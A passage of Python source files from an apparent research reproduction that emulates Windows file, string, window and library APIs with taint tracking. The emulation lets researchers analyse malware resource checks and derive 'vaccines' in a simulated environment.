        self,
        environment: SystemEnvironment,
        process: Process,
        interceptors: Optional[Iterable[Interceptor]] = None,
    ) -> None:
        self.env = environment
        self.process = process
        self.interceptors: List[Interceptor] = list(interceptors or [])
        # Observability is sampled once per dispatcher (== once per guest
        # run).  The invoke() hot path records nothing extra: per-API
        # counters are derived from the event log in flush_obs() at end of
        # run (the cheap-hook rule — the trace already has every field).
        self._obs_enabled = obs.metrics.enabled
        # Hot-path profiler handle, or None: invoke() pays exactly one
        # attribute load when profiling is off.
        self._prof = obs.prof if obs.prof.enabled else None

    def add_interceptor(self, interceptor: Interceptor) -> None:
        self.interceptors.append(interceptor)

    # ------------------------------------------------------------------

    def invoke(self, cpu, name: str, caller_pc: int, seq: int) -> None:
        apidef = REGISTRY.get(name)
        if apidef is None:
            # An unresolvable import is a *guest* fault (crashed process),
            # not a host error.
            from ..vm.cpu import CpuFault

            raise CpuFault(f"unknown API {name!r}; is repro.winapi imported?") from None
        prof = self._prof
        t_start = time.perf_counter() if prof is not None else 0.0
        args_seconds = 0.0
        event_id = cpu.trace.next_event_id()
        ctx = ApiContext(cpu, self.env, self.process, apidef, event_id)

        # Pre-read the declared arguments (records their stack-slot uses).
        if apidef.argc:
            if prof is not None:
                t0 = time.perf_counter()
                ctx.prefetch_args(apidef.argc)
                args_seconds = time.perf_counter() - t0
            else:
                ctx.prefetch_args(apidef.argc)

        event = ApiCallEvent(
            event_id=event_id,
            seq=seq,
            api=name,
            caller_pc=caller_pc,
            args=tuple(ctx.args),
            callstack=tuple(cpu.callstack),
            resource_type=apidef.resource_type,
            operation=apidef.operation,
        )
        self._resolve_identifier(ctx, apidef, event)

        verdict = Interception.PASS
        hit: Optional[Interceptor] = None
        for interceptor in self.interceptors:
            verdict = interceptor.intercept(apidef, event)
            if verdict is not Interception.PASS:
                event.mutated = True
                hit = interceptor
                break

        retval, success, error = self._execute(ctx, apidef, event, verdict)

        event.retval = retval
        event.success = success
        event.error = error
        cpu.trace.api_calls.append(event)

        tag = ctx.mint_tag() if apidef.taint_class is not None else EMPTY
        if not success:
            ctx.set_last_error(error, tag)
        elif not ctx.explicit_last_error:
            ctx.set_last_error(0, EMPTY)

        # Return value in eax, tainted per the label.
        retval_taint = union(tag, ctx.retval_taint)
        cpu.set_reg("eax", retval, retval_taint)

        # stdcall: callee pops its arguments.
        if apidef.calling is Calling.STDCALL:
            esp, esp_taint = cpu.get_reg("esp")
            cpu.set_reg("esp", esp + 4 * apidef.argc, esp_taint)

        if event.identifier is None and ctx.identifier is not None:
            # Implementations may resolve identifiers themselves (OpenProcess).
            event.identifier = ctx.identifier
            event.identifier_taints = ctx.identifier_taints
        if ctx.operation_override is not None:
            event.operation = ctx.operation_override
        event.extra.update(ctx.extra)
        if obs.flight.enabled:
            self._flight_record(event, tag, verdict, hit)
        if cpu.record_instructions:
            cpu.record_api_step(seq=seq, pc=caller_pc, text=f"call @{name}", event_id=event_id)
        else:
            cpu._api_step_recorded = True
        if prof is not None:
            # Handler total; the argument pre-read is split out as a child so
            # the handler node's *self* time is its body cost.
            paths = _API_PROF_PATHS.get(name)
            if paths is None:
                paths = _API_PROF_PATHS[name] = (
                    f"api;{name}",
                    f"api;{name};read_args",
                )
            prof.add(paths[0], time.perf_counter() - t_start)
            if args_seconds:
                prof.add(paths[1], args_seconds)

    @staticmethod
    def _flight_record(event: ApiCallEvent, tag, verdict: Interception, hit) -> None:
        """Journal this API call into the flight recorder (provenance roots).

        Three kinds, in priority order: an interception (the event the
        mutation/daemon acted on), a taint seed (the event whose tag can
        reach branch predicates), or a plain identified resource access.
        Unlabelled, untainted, uninstrumented calls stay off the journal.
        """
        flight = obs.flight
        if not event.mutated and flight.recall(("api", event.event_id)) is not None:
            # Re-runs (capture, resumed mutations, determinism) replay the
            # same trace event ids; the first-wins binding below already
            # journaled this call, so a duplicate would add no provenance.
            return
        if event.mutated:
            flight_id = flight.record(
                "api.intercept",
                causes=(
                    getattr(hit, "flight_id", None),
                    flight.recall(("api", event.event_id)),
                ),
                api=event.api,
                identifier=event.identifier,
                verdict=verdict.value,
                success=event.success,
                trace_event_id=event.event_id,
            )
        elif tag:
            flight_id = flight.record(
                "api.taint_seed",
                api=event.api,
                identifier=event.identifier,
                resource=event.resource_type.value if event.resource_type else None,
                success=event.success,
                trace_event_id=event.event_id,
            )
        elif event.resource_type is not None and event.identifier is not None:
            flight_id = flight.record(
                "api.call",
                api=event.api,
                identifier=event.identifier,
                resource=event.resource_type.value,
                operation=event.operation.value if event.operation else None,
                success=event.success,
                trace_event_id=event.event_id,
            )
        else:
            return
        # First-wins: the phase-1 run's binding is canonical (capture and
        # resumed runs replay the same event ids — see repro.core.snapshot).
        flight.remember(("api", event.event_id), flight_id)

    def flush_obs(self, api_calls: Iterable[ApiCallEvent]) -> None:
        """Publish per-API call counts into the metrics registry — the
        §VI-B / Figure 3 accounting the paper derives from its DynamoRIO
        hook log.  Called once per guest run (see ``CPU._flush_obs``) with
        the run's event log; aggregation happens here, off the hot path,
        through a generation-checked handle cache (registry label lookups
        are ~10x a dict get, and the label universe is small and stable)."""
        if not self._obs_enabled:
            return
        from collections import Counter as _Counter

        counts = _Counter(
            (e.api, e.success, e.resource_type, e.operation, e.mutated)
            for e in api_calls
        )
        metrics = obs.metrics
        cache = _FLUSH_CACHE
        if cache.generation != metrics.generation:
            cache.generation = metrics.generation
            cache.handles = {}
        handles = cache.handles
        for key, n in counts.items():
            triple = handles.get(key)
            if triple is None:
                name, success, rtype, op, mutated = key
                triple = (
                    metrics.counter(
                        "winapi.calls",
                        api=name,
                        outcome="success" if success else "failure",
                    ),
                    metrics.counter(
                        "winapi.resource_ops", resource=rtype.value, operation=op.value
                    )
                    if rtype is not None and op is not None
                    else None,
                    metrics.counter("winapi.intercepted", api=name) if mutated else None,
                )
                handles[key] = triple
            calls, resource_ops, intercepted = triple
            calls.inc(n)
            if resource_ops is not None:
                resource_ops.inc(n)
            if intercepted is not None:
                intercepted.inc(n)

    # ------------------------------------------------------------------

    def _resolve_identifier(self, ctx: ApiContext, apidef: ApiDef, event: ApiCallEvent) -> None:
        if apidef.identifier_arg is not None:
            addr = ctx.arg(apidef.identifier_arg)
            if addr:
                text, taints = ctx.read_string(addr)
                ctx.identifier, ctx.identifier_taints = text, taints
                event.identifier, event.identifier_taints = text, taints
                event.extra["identifier_addr"] = addr
        elif apidef.registry_path_args is not None:
            from ..winenv.registry import normalize_key
            from .labels import HIVE_NAMES

            hkey_arg, subkey_arg = apidef.registry_path_args
            hkey = ctx.arg(hkey_arg)
            subkey, taints = ctx.read_string_arg(subkey_arg)
            base = None
            if hkey in HIVE_NAMES:
                base = HIVE_NAMES[hkey]
            else:
                handle = self.process.handles.get(hkey)
                if handle is not None and handle.resource is not None:
                    base = handle.resource.name
            if base is not None:
                full = normalize_key(f"{base}\\{subkey}") if subkey else normalize_key(base)
                ctx.identifier, ctx.identifier_taints = full, taints
                event.identifier, event.identifier_taints = full, taints
                event.extra["identifier_addr"] = ctx.arg(subkey_arg)
        elif apidef.identifier_handle_arg is not None:
            value = ctx.arg(apidef.identifier_handle_arg)
            handle = self.process.handles.get(value)
            if handle is not None and handle.resource is not None:
                ctx.identifier = handle.resource.identifier
                event.identifier = ctx.identifier
                origin = handle.state.get("opened_by_event")
                if origin is not None:
                    event.extra["origin_event"] = origin

    def _execute(self, ctx, apidef: ApiDef, event: ApiCallEvent, verdict: Interception):
        """Run the implementation (or a forced outcome).

        Returns ``(retval, success, error)`` following the API's labelled
        encodings.
        """
        if verdict is Interception.FORCE_FAIL:
            return apidef.failure.retval, False, int(apidef.failure.last_error)

        if verdict is Interception.FORCE_FAIL_EXISTS:
            error = (
                Win32Error.FILE_EXISTS if "File" in apidef.name else Win32Error.ALREADY_EXISTS
            )
            retval = apidef.failure.retval
            if apidef.returns is Returns.NTSTATUS:
                retval = _nt_status_for(error)
            return retval, False, int(error)

        if verdict is Interception.FORCE_SUCCESS:
            return self._fabricate_success(ctx, apidef, event), True, 0

        try:
            retval = apidef.impl(ctx)
            return int(retval) if retval is not None else 0, True, 0
        except ResourceFault as fault:
            retval = apidef.failure.retval
            # NT APIs return the specific status; Win32 APIs use the labelled
            # failure retval and report detail via GetLastError.
            if apidef.returns is Returns.NTSTATUS:
                retval = _nt_status_for(fault.error)
            return retval, False, int(fault.error)

    def _fabricate_success(self, ctx: ApiContext, apidef: ApiDef, event: ApiCallEvent) -> int:
        """Simulate success without touching the environment.

        Used when impact analysis tests "what if the resource were present":
        e.g. a phantom mutex handle makes ``OpenMutex`` appear to succeed.
        """
        if apidef.returns is Returns.HANDLE:
            phantom: Optional[Resource] = None
            if apidef.resource_type is not None and ctx.identifier:
                phantom = Resource(name=ctx.identifier, rtype=apidef.resource_type)
            kind = _PHANTOM_KINDS.get(
                apidef.resource_type.value if apidef.resource_type else "", HandleKind.FILE
            )
            handle = ctx.alloc_handle(kind, phantom)
            handle.state["phantom"] = True
            return handle.value
        if apidef.returns is Returns.BOOL:
            return 1
        if apidef.returns in (Returns.NTSTATUS, Returns.ERRCODE):
            return 0
        return 1


_PHANTOM_KINDS = {
    "file": HandleKind.FILE,
    "registry": HandleKind.REGISTRY,
    "mutex": HandleKind.MUTEX,
    "process": HandleKind.PROCESS,
    "service": HandleKind.SERVICE,
    "window": HandleKind.WINDOW,
    "library": HandleKind.LIBRARY,
}


def _nt_status_for(error: Win32Error) -> int:
    from ..winenv.errors import NtStatus

    mapping = {
        Win32Error.FILE_NOT_FOUND: NtStatus.OBJECT_NAME_NOT_FOUND,
        Win32Error.PATH_NOT_FOUND: NtStatus.OBJECT_PATH_NOT_FOUND,
        Win32Error.ACCESS_DENIED: NtStatus.ACCESS_DENIED,
        Win32Error.FILE_EXISTS: NtStatus.OBJECT_NAME_COLLISION,
        Win32Error.ALREADY_EXISTS: NtStatus.OBJECT_NAME_COLLISION,
        Win32Error.INVALID_HANDLE: NtStatus.INVALID_HANDLE,
        Win32Error.SHARING_VIOLATION: NtStatus.SHARING_VIOLATION,
    }
    return int(mapping.get(error, NtStatus.UNSUCCESSFUL))
