"""C-runtime / shell string helpers with exact per-byte taint transfer.

These are API-level taint summaries (the paper instruments library calls the
same way): copying moves each byte's tags; comparison returns a value tainted
by *both* inputs, so ``cmp eax, 0`` after ``lstrcmpA(reg_value, expected)``
is a tainted predicate; formatting interleaves format-string bytes (usually
static) with argument bytes — the mechanism behind partial-static vaccines
(paper Figure 2's ``"Global\\%s-99"``).

Variadic formatters are ``cdecl``: guest code cleans the stack itself.
"""

from __future__ import annotations

from typing import List

from ..taint.labels import EMPTY, TagSet, union
from .context import ApiContext
from .labels import Calling, Returns, api


@api("lstrlenA", argc=1, returns=Returns.VALUE)
def lstrlen(ctx: ApiContext) -> int:
    text, taints = ctx.read_string_arg(0)
    ctx.retval_taint = union(*taints) if taints else EMPTY
    return len(text)


@api("lstrcpyA", argc=2, returns=Returns.VALUE)
def lstrcpy(ctx: ApiContext) -> int:
    dst = ctx.arg(0)
    text, taints = ctx.read_string_arg(1)
    ctx.write_string(dst, text, taints=taints)
    return dst


@api("lstrcatA", argc=2, returns=Returns.VALUE)
def lstrcat(ctx: ApiContext) -> int:
    dst = ctx.arg(0)
    old, old_taints = ctx.read_string(dst)
    add, add_taints = ctx.read_string_arg(1)
    ctx.write_string(dst, old + add, taints=old_taints + add_taints)
    return dst


def _compare(ctx: ApiContext, fold_case: bool) -> int:
    a, ta = ctx.read_string_arg(0)
    b, tb = ctx.read_string_arg(1)
    ctx.retval_taint = union(*(ta + tb)) if (ta or tb) else EMPTY
    if fold_case:
        a, b = a.lower(), b.lower()
    if a == b:
        return 0
    return 1 if a > b else 0xFFFFFFFF  # -1


@api("lstrcmpA", argc=2, returns=Returns.VALUE)
def lstrcmp(ctx: ApiContext) -> int:
    return _compare(ctx, fold_case=False)


@api("lstrcmpiA", argc=2, returns=Returns.VALUE)
def lstrcmpi(ctx: ApiContext) -> int:
    return _compare(ctx, fold_case=True)


@api("CharUpperA", argc=1, returns=Returns.VALUE)
def char_upper(ctx: ApiContext) -> int:
    addr = ctx.arg(0)
    text, taints = ctx.read_string(addr)
    ctx.write_string(addr, text.upper(), taints=taints)
    return addr


@api("atoi", argc=1, returns=Returns.VALUE, calling=Calling.CDECL)
def atoi_(ctx: ApiContext) -> int:
    text, taints = ctx.read_string_arg(0)
    ctx.retval_taint = union(*taints) if taints else EMPTY
    digits = ""
    for ch in text.strip():
        if ch.isdigit() or (ch == "-" and not digits):
            digits += ch
        else:
            break
    try:
        return int(digits) & 0xFFFFFFFF
    except ValueError:
        return 0


@api("_itoa", argc=3, returns=Returns.VALUE, calling=Calling.CDECL)
def itoa_(ctx: ApiContext) -> int:
    value, buf, radix = ctx.arg(0), ctx.arg(1), ctx.arg(2) or 10
    taint = ctx.arg_taint(0)
    if radix == 16:
        text = f"{value:x}"
    else:
        text = str(value)
    ctx.write_string(buf, text, taint=taint)
    return buf


@api("memcpy", argc=3, returns=Returns.VALUE, calling=Calling.CDECL)
def memcpy_(ctx: ApiContext) -> int:
    dst, src, n = ctx.arg(0), ctx.arg(1), ctx.arg(2)
    data = ctx.read_buffer(src, n)
    taints = ctx.read_buffer_taints(src, n)
    for i, (b, t) in enumerate(zip(data, taints)):
        ctx.cpu.memory.write_byte(dst + i, b, t)
        ctx.cpu.note_def(("mem", dst + i))
    return dst


def _format(ctx: ApiContext, buf: int, fmt: str, fmt_taints: List[TagSet], first_vararg: int) -> int:
    """%s/%d/%u/%x/%c/%% formatting with per-byte provenance."""
    out_chars: List[str] = []
    out_taints: List[TagSet] = []
    argi = first_vararg
    i = 0
    while i < len(fmt):
        ch = fmt[i]
        if ch != "%":
            out_chars.append(ch)
            out_taints.append(fmt_taints[i] if i < len(fmt_taints) else EMPTY)
            i += 1
            continue
        spec = fmt[i + 1] if i + 1 < len(fmt) else "%"
        if spec == "%":
            out_chars.append("%")
            out_taints.append(EMPTY)
        elif spec == "s":
            addr = ctx.arg(argi)
            argi += 1
            text, taints = ctx.read_string(addr)
            out_chars.extend(text)
            out_taints.extend(taints)
        elif spec in "dux":
            value = ctx.arg(argi)
            taint = ctx.arg_taint(argi)
            argi += 1
            if spec == "x":
                text = f"{value:x}"
            elif spec == "u":
                text = str(value)
            else:
                signed = value - 0x100000000 if value & 0x80000000 else value
                text = str(signed)
            out_chars.extend(text)
            out_taints.extend([taint] * len(text))
        elif spec == "c":
            value = ctx.arg(argi)
            taint = ctx.arg_taint(argi)
            argi += 1
            out_chars.append(chr(value & 0xFF))
            out_taints.append(taint)
        else:
            out_chars.append(spec)
            out_taints.append(EMPTY)
        i += 2
    ctx.write_string(buf, "".join(out_chars), taints=out_taints)
    return len(out_chars)


@api("wsprintfA", argc=2, returns=Returns.VALUE, calling=Calling.CDECL)
def wsprintf(ctx: ApiContext) -> int:
    """``wsprintfA(buf, fmt, ...)`` — varargs read lazily off the stack."""
    buf = ctx.arg(0)
    fmt, fmt_taints = ctx.read_string_arg(1)
    return _format(ctx, buf, fmt, fmt_taints, first_vararg=2)


@api("_snprintf", argc=3, returns=Returns.VALUE, calling=Calling.CDECL)
def snprintf(ctx: ApiContext) -> int:
    """``_snprintf(buf, count, fmt, ...)`` — as in paper Figure 2."""
    buf = ctx.arg(0)
    fmt, fmt_taints = ctx.read_string_arg(2)
    return _format(ctx, buf, fmt, fmt_taints, first_vararg=3)
