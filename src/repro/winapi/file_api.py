"""File APIs (labelled per paper Table I conventions)."""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.acl import Access
from ..winenv.errors import (
    INVALID_HANDLE_VALUE,
    ResourceFault,
    TRUE,
    Win32Error,
)
from ..winenv.filesystem import normalize_path
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api

GENERIC_READ = 0x80000000
GENERIC_WRITE = 0x40000000

CREATE_NEW = 1
CREATE_ALWAYS = 2
OPEN_EXISTING = 3
OPEN_ALWAYS = 4

FILE_ATTRIBUTE_NORMAL = 0x20
FILE_ATTRIBUTE_DIRECTORY = 0x10
INVALID_FILE_ATTRIBUTES = 0xFFFFFFFF


@api(
    "CreateFileA",
    argc=7,
    returns=Returns.HANDLE,
    resource=ResourceType.FILE,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(INVALID_HANDLE_VALUE, Win32Error.FILE_NOT_FOUND),
)
def create_file(ctx: ApiContext) -> int:
    """Open or create a file per its creation disposition."""
    path = ctx.identifier or ""
    access = ctx.arg(1)
    disposition = ctx.arg(4)
    fs = ctx.env.filesystem

    if disposition in (CREATE_NEW, CREATE_ALWAYS):
        ctx.operation_override = Operation.CREATE
        node = fs.create(
            path,
            ctx.integrity,
            exist_ok=(disposition == CREATE_ALWAYS),
            created_by=ctx.process.pid,
        )
    elif disposition == OPEN_ALWAYS:
        node = fs.lookup(path)
        if node is None:
            ctx.operation_override = Operation.CREATE
            node = fs.create(path, ctx.integrity, created_by=ctx.process.pid)
        else:
            ctx.operation_override = Operation.READ
    else:  # OPEN_EXISTING
        ctx.operation_override = Operation.READ
        node = fs.lookup(path)
        if node is None:
            raise ResourceFault(Win32Error.FILE_NOT_FOUND, path)
        wanted = Access.WRITE if access & GENERIC_WRITE else Access.READ
        node.acl.check(ctx.integrity, wanted)

    handle = ctx.alloc_handle(HandleKind.FILE, node)
    return handle.value


@api(
    "GetFileAttributesA",
    argc=1,
    returns=Returns.VALUE,
    resource=ResourceType.FILE,
    operation=Operation.CHECK,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(INVALID_FILE_ATTRIBUTES, Win32Error.FILE_NOT_FOUND),
)
def get_file_attributes(ctx: ApiContext) -> int:
    """Existence check: attributes or INVALID_FILE_ATTRIBUTES."""
    node = ctx.env.filesystem.lookup(ctx.identifier or "")
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, ctx.identifier or "")
    return FILE_ATTRIBUTE_DIRECTORY if node.is_directory else FILE_ATTRIBUTE_NORMAL


@api(
    "ReadFile",
    argc=5,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.READ_FAULT),
)
def read_file(ctx: ApiContext) -> int:
    """Read from a file handle; buffer bytes are resource-tainted."""
    handle = ctx.handle_arg(0)
    buf, want = ctx.arg(1), ctx.arg(2)
    read_ptr = ctx.arg(3)
    node = handle.resource
    if node is None or handle.state.get("phantom"):
        data = b""
    else:
        data = ctx.env.filesystem.read(node.name, ctx.integrity, offset=handle.cursor, size=want)
        handle.cursor += len(data)
    tag = ctx.mint_tag()
    ctx.write_buffer(buf, data, taint=tag)
    if read_ptr:
        ctx.write_u32(read_ptr, len(data), tag)
    return TRUE


@api(
    "WriteFile",
    argc=5,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.WRITE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.ACCESS_DENIED),
)
def write_file(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    buf, size = ctx.arg(1), ctx.arg(2)
    written_ptr = ctx.arg(3)
    data = ctx.read_buffer(buf, size)
    node = handle.resource
    if node is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    if not handle.state.get("phantom"):
        ctx.env.filesystem.write(node.name, ctx.integrity, data)
    if written_ptr:
        ctx.write_u32(written_ptr, len(data))
    return TRUE


@api(
    "DeleteFileA",
    argc=1,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.DELETE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def delete_file(ctx: ApiContext) -> int:
    ctx.env.filesystem.delete(ctx.identifier or "", ctx.integrity)
    return TRUE


@api(
    "CopyFileA",
    argc=3,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.CREATE,
    identifier_arg=1,  # the *destination* is the vaccine-relevant identifier
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_EXISTS),
)
def copy_file(ctx: ApiContext) -> int:
    """Self-copy dropper primitive: dst existing (with bFailIfExists) fails."""
    src, _ = ctx.read_string_arg(0)
    dst = ctx.identifier or ""
    fail_if_exists = ctx.arg(2)
    fs = ctx.env.filesystem
    source = fs.lookup(src)
    content = bytes(source.content) if source is not None else b"MZ\x90fakebinary"
    fs.create(
        dst,
        ctx.integrity,
        content=content,
        exist_ok=not fail_if_exists,
        created_by=ctx.process.pid,
    )
    return TRUE


@api(
    "MoveFileA",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.WRITE,
    identifier_arg=1,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def move_file(ctx: ApiContext) -> int:
    src, _ = ctx.read_string_arg(0)
    dst = ctx.identifier or ""
    fs = ctx.env.filesystem
    node = fs.lookup(src)
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, src)
    fs.create(dst, ctx.integrity, content=bytes(node.content), exist_ok=True,
              created_by=ctx.process.pid)
    fs.delete(src, ctx.integrity)
    return TRUE


@api(
    "CreateDirectoryA",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.ALREADY_EXISTS),
)
def create_directory(ctx: ApiContext) -> int:
    path = ctx.identifier or ""
    fs = ctx.env.filesystem
    if fs.exists(path):
        raise ResourceFault(Win32Error.ALREADY_EXISTS, path)
    node = fs.create(path, ctx.integrity, created_by=ctx.process.pid)
    node.is_directory = True
    return TRUE


@api(
    "FindFirstFileA",
    argc=2,
    returns=Returns.HANDLE,
    resource=ResourceType.FILE,
    operation=Operation.CHECK,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(INVALID_HANDLE_VALUE, Win32Error.FILE_NOT_FOUND),
)
def find_first_file(ctx: ApiContext) -> int:
    """Existence probe (wildcards match a directory listing prefix)."""
    pattern = normalize_path(ctx.identifier or "")
    fs = ctx.env.filesystem
    if "*" in pattern:
        prefix = pattern.split("*", 1)[0]
        found = any(node.name.startswith(prefix) for node in fs)
    else:
        found = fs.exists(pattern)
    if not found:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, pattern)
    handle = ctx.alloc_handle(HandleKind.FILE, fs.lookup(pattern))
    return handle.value


@api(
    "GetFileSize",
    argc=2,
    returns=Returns.VALUE,
    resource=ResourceType.FILE,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0xFFFFFFFF, Win32Error.INVALID_HANDLE),
)
def get_file_size(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    node = ctx.env.filesystem.lookup(handle.resource.name)
    return node.size if node is not None else 0


@api(
    "SetFilePointer",
    argc=4,
    returns=Returns.VALUE,
    failure=FailureSpec(0xFFFFFFFF, Win32Error.INVALID_HANDLE),
)
def set_file_pointer(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    handle.cursor = ctx.arg(1)
    return handle.cursor


@api(
    "GetTempFileNameA",
    argc=4,
    returns=Returns.VALUE,
    taint=TaintClass.RANDOM,
    failure=FailureSpec(0, Win32Error.PATH_NOT_FOUND),
)
def get_temp_file_name(ctx: ApiContext) -> int:
    """Random name generator — canonical non-deterministic source (§IV-C)."""
    prefix, _ = ctx.read_string_arg(1)
    out = ctx.arg(3)
    name = ctx.env.temp_file_name(prefix or "tmp")
    tag = ctx.mint_tag()
    ctx.write_string(out, name, taint=tag)
    ctx.env.filesystem.create(name, ctx.integrity, exist_ok=True, created_by=ctx.process.pid)
    return ctx.env.random_u32() & 0xFFFF


@api(
    "GetTempPathA",
    argc=2,
    returns=Returns.VALUE,
    taint=TaintClass.ENV_DETERMINISTIC,
)
def get_temp_path(ctx: ApiContext) -> int:
    from ..winenv.filesystem import TEMP_DIR

    buf = ctx.arg(1)
    ctx.write_string(buf, TEMP_DIR + "\\", taint=ctx.mint_tag())
    return len(TEMP_DIR) + 1


@api(
    "GetModuleFileNameA",
    argc=3,
    returns=Returns.VALUE,
    taint=TaintClass.ENV_DETERMINISTIC,
)
def get_module_file_name(ctx: ApiContext) -> int:
    """Own image path (deterministic per machine/deployment)."""
    buf = ctx.arg(1)
    path = ctx.process.image_path
    ctx.write_string(buf, path, taint=ctx.mint_tag())
    return len(path)


@api(
    "NtOpenFile",
    argc=3,
    returns=Returns.NTSTATUS,
    resource=ResourceType.FILE,
    operation=Operation.READ,
    identifier_arg=2,
    taint=TaintClass.RESOURCE,
)
def nt_open_file(ctx: ApiContext) -> int:
    """NT-style open: handle returned via the first (out) parameter."""
    out_ptr = ctx.arg(0)
    node = ctx.env.filesystem.lookup(ctx.identifier or "")
    if node is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, ctx.identifier or "")
    handle = ctx.alloc_handle(HandleKind.FILE, node)
    ctx.write_u32(out_ptr, handle.value, ctx.mint_tag())
    return 0


@api("CloseHandle", argc=1, returns=Returns.BOOL)
def close_handle(ctx: ApiContext) -> int:
    ctx.process.handles.close(ctx.arg(0))
    return TRUE
