"""GUI window APIs (adware's favourite resource, paper Table V)."""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api


@api(
    "FindWindowA",
    argc=2,
    returns=Returns.HANDLE,
    resource=ResourceType.WINDOW,
    operation=Operation.CHECK,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.FILE_NOT_FOUND),
)
def find_window(ctx: ApiContext) -> int:
    win = ctx.env.windows.find(ctx.identifier or "")
    handle = ctx.alloc_handle(HandleKind.WINDOW, win)
    return handle.value


@api(
    "CreateWindowExA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.WINDOW,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
)
def create_window(ctx: ApiContext) -> int:
    """Create a top-level window: ``(lpClassName, lpWindowName, dwStyle)``."""
    title, _ = ctx.read_string_arg(1)
    win = ctx.env.windows.create(
        ctx.identifier or "", ctx.integrity, title=title, owner_pid=ctx.process.pid
    )
    handle = ctx.alloc_handle(HandleKind.WINDOW, win)
    return handle.value


@api(
    "RegisterClassA",
    argc=1,
    returns=Returns.VALUE,
    resource=ResourceType.WINDOW,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.ALREADY_EXISTS),
)
def register_class(ctx: ApiContext) -> int:
    """Register a window class by name (simplified: name pointer arg)."""
    name = ctx.identifier or ""
    if ctx.env.windows.exists(name):
        raise ResourceFault(Win32Error.ALREADY_EXISTS, name)
    return 0xC000 + (len(name) & 0xFF)  # fake ATOM


@api("DestroyWindow", argc=1, returns=Returns.BOOL)
def destroy_window(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    if handle.resource is not None:
        ctx.env.windows.destroy(handle.resource.name)
    return TRUE


@api("ShowWindow", argc=2, returns=Returns.BOOL)
def show_window(ctx: ApiContext) -> int:
    ctx.handle_arg(0)
    return TRUE


@api("GetForegroundWindow", argc=0, returns=Returns.HANDLE)
def get_foreground_window(ctx: ApiContext) -> int:
    win = ctx.env.windows.lookup("Shell_TrayWnd")
    handle = ctx.alloc_handle(HandleKind.WINDOW, win)
    return handle.value
