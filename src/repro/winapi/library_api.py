"""Library (DLL) APIs."""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api


@api(
    "LoadLibraryA",
    argc=1,
    returns=Returns.HANDLE,
    resource=ResourceType.LIBRARY,
    operation=Operation.READ,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.FILE_NOT_FOUND),
)
def load_library(ctx: ApiContext) -> int:
    """Load a registered DLL; falls back to a DLL file on disk (a dropped
    library becomes loadable), mirroring the loader's search path."""
    name = ctx.identifier or ""
    try:
        lib = ctx.env.libraries.load(name, ctx.integrity)
    except ResourceFault:
        from ..winenv.filesystem import SYSTEM32, normalize_path

        candidates = [normalize_path(name)] if "\\" in name else []
        candidates.append(f"{SYSTEM32}\\{name.lower()}")
        for path in candidates:
            if ctx.env.filesystem.exists(path):
                lib = ctx.env.libraries.register(name.split("\\")[-1])
                break
        else:
            raise
    handle = ctx.alloc_handle(HandleKind.LIBRARY, lib)
    return handle.value


@api(
    "GetModuleHandleA",
    argc=1,
    returns=Returns.HANDLE,
    resource=ResourceType.LIBRARY,
    operation=Operation.CHECK,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.FILE_NOT_FOUND),
)
def get_module_handle(ctx: ApiContext) -> int:
    lib = ctx.env.libraries.lookup(ctx.identifier or "")
    if lib is None or lib.blocked:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, ctx.identifier or "")
    handle = ctx.alloc_handle(HandleKind.LIBRARY, lib)
    return handle.value


@api(
    "GetProcAddress",
    argc=2,
    returns=Returns.VALUE,
